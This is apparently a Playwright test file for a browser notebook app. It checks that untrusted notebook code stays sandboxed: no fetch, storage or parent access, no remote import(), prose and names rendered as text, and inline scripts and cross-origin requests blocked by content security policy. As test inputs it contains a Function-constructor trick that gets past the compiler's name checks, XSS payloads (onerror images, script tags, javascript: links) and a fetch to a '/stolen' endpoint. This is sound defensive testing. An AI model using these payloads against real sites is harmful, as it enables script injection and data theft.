import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { openNotebook, serveNotebook } from './notebook-page.ts';

/** A server elsewhere that must never hear of us. */
let server: Server;
let heard: string[] = [];
let elsewhere = '';

test.beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(() => {
  server.close();
});

test.beforeEach(() => {
  heard = [];
});

/** A notebook whose rule runs `attack` as plain JavaScript, past the compiler's look at names, and keeps what came of it. */
const hostile = (attack: string): string => `---
title: Hostile
seed: 1
---

# Hostile

\`\`\`ts rules attack
const Go = message('Go')
const make = (text: string): unknown => ((() => {}) as any)['con' + 'structor'](text)()
const thief = node('thief', {
  state: () => ({ status: 'waiting', loot: '' }),
  start(s, ctx) { ctx.setTimer(Go(), 1) },
})
thief.on(Go, (s, m, ctx) => {
  s.status = 'tried'
  try { s.loot = String(make(${JSON.stringify(attack)})) } catch (error) { s.loot = 'threw ' + error }
})
\`\`\`

\`\`\`ts scenario
scenario('alone', { until: 1000 }, (world) => { world.add(thief) })
\`\`\`
`;

const attacks: readonly (readonly [what: string, code: string, result: string])[] = [
  ['fetch', 'return typeof fetch', 'undefined'],
  ['XMLHttpRequest', 'return typeof XMLHttpRequest', 'undefined'],
  ['WebSocket', 'return typeof WebSocket', 'undefined'],
  ['importScripts', 'return typeof importScripts', 'undefined'],
  ['other workers', 'return typeof Worker', 'undefined'],
  ['IndexedDB', 'return typeof indexedDB', 'undefined'],
  ['the page', 'return typeof parent', 'undefined'],
  ['local storage', 'return typeof localStorage', 'undefined'],
  ['its origin', 'return self.origin', 'null'],
];

test('what a hostile cell reaches for is not there', async ({ page }) => {
  const code = `return [${attacks.map(([, attack]) => `(() => { ${attack} })()`).join(', ')}].join()`;
  await serveNotebook(page, 'hostile.sim.md', hostile(code));
  await openNotebook(page, 'hostile.sim.md');
  await page.getByRole('tab', { name: 'State' }).click();
  await expect(page.getByRole('table', { name: 'thief' })).toContainText('tried');
  await expect(page.getByRole('table', { name: 'thief' })).toContainText(
    attacks.map(([, , expected]) => expected).join(','),
  );
});

test('a hostile cell cannot load anything, not even by import()', async ({ page }) => {
  const code = `import('${elsewhere}/imported.js').catch(() => {}); return 'asked'`;
  await serveNotebook(page, 'hostile.sim.md', hostile(code));
  await openNotebook(page, 'hostile.sim.md');
  await page.getByRole('tab', { name: 'State' }).click();
  await expect(page.getByRole('table', { name: 'thief' })).toContainText('asked');
  await page.waitForTimeout(500);
  expect(heard).toEqual([]);
});

test("a notebook's prose and names are text, never markup", async ({ page }) => {
  const mark = '<img src=x onerror="window.stolen = 1">';
  const text = hostile("return '<img src=x onerror=alert(1)>'")
    .replace(
      '# Hostile',
      `# Hostile ${mark}\n\n${mark}\n\n<script>window.stolen = 1</script>\n\n[x](javascript:window.stolen=1)`,
    )
    .replace("scenario('alone'", `scenario(${JSON.stringify(mark)}`);
  await serveNotebook(page, 'hostile.sim.md', text);
  await openNotebook(page, 'hostile.sim.md');
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(await page.locator('[onerror], a[href^="javascript:"]').count()).toBe(0);
});

test('the page refuses scripts that are not its own', async ({ page }) => {
  await page.goto('');
  const blocked = await page.evaluate(async (origin) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const inline = document.createElement('script');
    inline.textContent = 'window.inlineRan = 1';
    document.body.append(inline);
    await fetch(`${origin}/stolen`).catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return { violations, ran: 'inlineRan' in window };
  }, elsewhere);
  expect(blocked.ran).toBe(false);
  expect(blocked.violations).toContain('connect-src');
  expect(blocked.violations.some((directive) => directive.startsWith('script-src'))).toBe(true);
  expect(heard).toEqual([]);
});

test("the kernel's frame has no origin and no name for the page", async ({ page }) => {
  await page.goto('');
  const frame = page.locator('iframe');
  await page.goto('#/n/01-two-phase-commit.sim.md');
  await expect(frame).toHaveCount(1);
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  const kernel = page.frames().find((one) => one.url().endsWith('/kernel.html'));
  expect(await kernel?.evaluate(() => self.origin)).toBe('null');
});
